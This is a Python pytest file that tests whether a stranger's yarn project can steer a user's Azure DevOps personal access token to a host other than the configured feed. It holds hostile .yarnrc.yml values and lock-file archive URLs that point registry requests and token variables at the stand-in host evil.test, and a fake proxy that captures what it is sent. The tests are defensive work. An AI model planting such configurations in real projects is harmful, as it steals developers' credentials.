"""yarn in a project of a stranger: the PAT of `auth setup yarn` goes to its feed, and what a project cannot change."""

import base64
import json
import socket
import threading
from urllib.parse import quote

import pytest

from ..support.tools import Tools

FEED = "//pkgs.dev.azure.com/contoso/_packaging/feed/npm/registry"
EVIL = "//evil.test/contoso/_packaging/feed/npm/registry"
OTHER = "/fabrikam/_packaging/feed/npm/registry"
VARIABLE = "${AZURE_DEVOPS_EXT_PAT-none}"

REFUSED = ("No authentication configured for request", "Unrecognized configuration settings found")  # by yarn itself
LOCK_4 = """__metadata:
  version: 8
  cacheKey: 10c0

"one@npm:1.0.0":
  version: 1.0.0
  resolution: "one@npm:1.0.0::__archiveUrl={archive}"
  languageName: node
  linkType: hard

"x@workspace:.":
  version: 0.0.0-use.local
  resolution: "x@workspace:."
  dependencies:
    one: "npm:1.0.0"
  languageName: unknown
  linkType: soft
"""
pytestmark = pytest.mark.timeout(400)  # the first test installs what all share


def server(url):
    return f'npmRegistryServer: "{url}"\n'


def entry(key, *settings):
    lines = "".join(f"    {setting}\n" for setting in settings)
    return f'npmRegistries:\n  "{key}":\n{lines}'


PROJECTS = {
    "another server": server(f"https:{EVIL}"),
    "another server for a scope": f'npmScopes:\n  theirs:\n    npmRegistryServer: "https:{EVIL}"\n',
    "ours as user name": server(f"https://pkgs.dev.azure.com@{EVIL[2:]}"),
    "ours as user name and password": server(f"https:{FEED.replace('/contoso', ':443@evil.test/contoso', 1)}"),
    "ours in the path": server(f"https://evil.test/{FEED[2:]}"),
    "ours before dots": server(f"https://evil.test{FEED}/../../../../../../contoso/_packaging/feed/npm/registry"),
    "dots to another organization": server(f"https:{FEED}/../../../../..{OTHER}"),
    "an entry for our address with dots": server(f"https:{FEED}/../../../../..{OTHER}")
    + entry(f"{FEED}/../../../../..{OTHER}", "npmAlwaysAuth: true"),
    "an entry for our feed that names a server": entry(FEED, f'npmRegistryServer: "https:{EVIL}"')
    + server(f"https:{EVIL}"),
    "an entry for theirs with a variable": server(f"https:{EVIL}")
    + entry(EVIL, "npmAlwaysAuth: true", f'npmAuthIdent: "any:{VARIABLE}"'),
    "a variable for everybody": server(f"https:{EVIL}") + f'npmAlwaysAuth: true\nnpmAuthIdent: "any:{VARIABLE}"\n',
}


@pytest.fixture
def project(az, service, tmp_path):
    """A clone whose user has connected yarn to a feed of contoso, and the PAT that was written."""
    pat = service.pat("contoso")
    assert az.login(pat).code == 0
    folder = tmp_path / "project"
    folder.mkdir()
    proxy = service.environment()
    settings = {"YARN_HTTPS_PROXY": proxy["HTTPS_PROXY"], "YARN_HTTPS_CA_FILE_PATH": proxy["SSL_CERT_FILE"]}
    settings |= {"YARN_NPM_MINIMAL_AGE_GATE": "0", "YARN_ENABLE_TELEMETRY": "0", "YARN_ENABLE_GLOBAL_CACHE": "0"}
    tools = Tools(az, folder, settings={**settings, "YARN_HTTP_RETRY": "0", "CI": ""})
    tools.setup("yarn", "--organization", "contoso", "--registry", f"https:{FEED}/")
    for owner in ("contoso", "fabrikam", "evil.test"):
        service.feed(owner).add_npm("one")
        service.feed(owner).add_npm("@theirs/one")
    service.let_evil_ask()
    (folder / "yarn.lock").write_text("")
    return tools, pat


def install(tools, node_tools, configuration, package="one"):
    (tools.place / "package.json").write_text(json.dumps({"name": "x", "dependencies": {package: "1.0.0"}}))
    (tools.place / ".yarnrc.yml").write_text(f"nodeLinker: node-modules\n{configuration}")
    return tools.run(*node_tools["yarn 4"], "install")


def strays(service, pat):
    """Return where the PAT went, but for contoso's feeds: host and path of each request."""
    forms = [
        pat,
        quote(pat),
        *(base64.b64encode(f"{user}:{pat}".encode()).decode() for user in ("any", "PersonalAccessToken")),
    ]
    return [
        (request.host, request.path)
        for request in service.requests
        if any(form in f"{request.path} {request.authorization}" for form in forms)
        and not (request.host == "pkgs.dev.azure.com" and request.path.startswith("/contoso/"))
    ]


@pytest.mark.parametrize("how", PROJECTS)
def test_a_project_cannot_send_the_pat_elsewhere(project, service, node_tools, how):
    tools, pat = project
    service.clear()
    result = install(tools, node_tools, PROJECTS[how], "@theirs/one" if "scope" in how else "one")
    asked = service.requests_to("evil.test") or service.requests_to("pkgs.dev.azure.com")
    assert asked or any(sentence in result.out for sentence in REFUSED), result.everything
    assert strays(service, pat) == []


def test_the_feed_itself_gets_it(project, service, node_tools):
    tools, pat = project
    service.clear()
    result = install(tools, node_tools, server(f"https:{FEED}"))
    assert result.code == 0, result.everything
    assert ("Basic", "contoso") in {service.sender(request) for request in service.requests_to("pkgs.dev.azure.com")}


def test_yarn_4_itself_sends_it_to_an_archive_that_a_lock_file_names(project, service, node_tools):
    """No setting of yarn prevents it, so docs/package-tools.md warns of it: if this fails, yarn has mended its ways."""
    tools, pat = project
    archive = quote(f"https:{EVIL}/one/-/one-1.0.0.tgz", safe="")
    (tools.place / "yarn.lock").write_text(LOCK_4.format(archive=archive))
    service.clear()
    install(tools, node_tools, server(f"https:{FEED}"))
    assert [host for host, _ in strays(service, pat)] == ["evil.test"]


def test_yarn_1_does_not_send_it_to_an_archive_that_a_lock_file_names(project, service, node_tools):
    tools, pat = project
    (tools.place / "package.json").write_text('{"name": "x", "version": "1.0.0", "dependencies": {"one": "1.0.0"}}')
    (tools.place / ".npmrc").write_text(f"registry=https:{FEED}/\nalways-auth=true\n")
    (tools.place / "yarn.lock").write_text(
        f'# yarn lockfile v1\n\n\none@1.0.0:\n  version "1.0.0"\n  resolved "https:{EVIL}/one/-/one-1.0.0.tgz"\n'
    )
    service.clear()
    cache = ("--no-progress", "--cache-folder", tools.place / "cache")
    trust = {"NODE_EXTRA_CA_CERTS": service.ca_bundle, "npm_config_cafile": service.ca_bundle}
    result = tools.run(*node_tools["yarn 1"], "install", *cache, env=trust)
    assert service.requests_to("evil.test") != [], result.everything
    assert strays(service, pat) == []


class Tunnel:
    """A proxy of somebody else that says yes to every tunnel and keeps the first thing that it is sent."""

    def __init__(self):
        self._socket, self.seen = socket.create_server(("127.0.0.1", 0)), b""
        self.address = f"http://127.0.0.1:{self._socket.getsockname()[1]}"
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self):
        client, _ = self._socket.accept()
        with client:
            self._read(client)
            client.sendall(b"HTTP/1.1 200 OK\r\n\r\n")
            self.seen = self._read(client)
            client.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")

    def _read(self, client):
        data = b""
        while not data.endswith(b"\r\n\r\n"):
            more = client.recv(4096)
            if not more:
                break
            data += more
        return data


def test_a_feed_that_a_project_names_without_tls_gets_nothing(project, service, node_tools):
    tools, pat = project
    tunnel = Tunnel()
    open_way = f'unsafeHttpWhitelist: ["*"]\nhttpProxy: "{tunnel.address}"\n'
    result = install(tools, node_tools, server(f"http:{FEED}") + open_way)
    assert tunnel.seen.startswith(b"GET /contoso/"), result.everything
    assert b"authorization" not in tunnel.seen.lower()
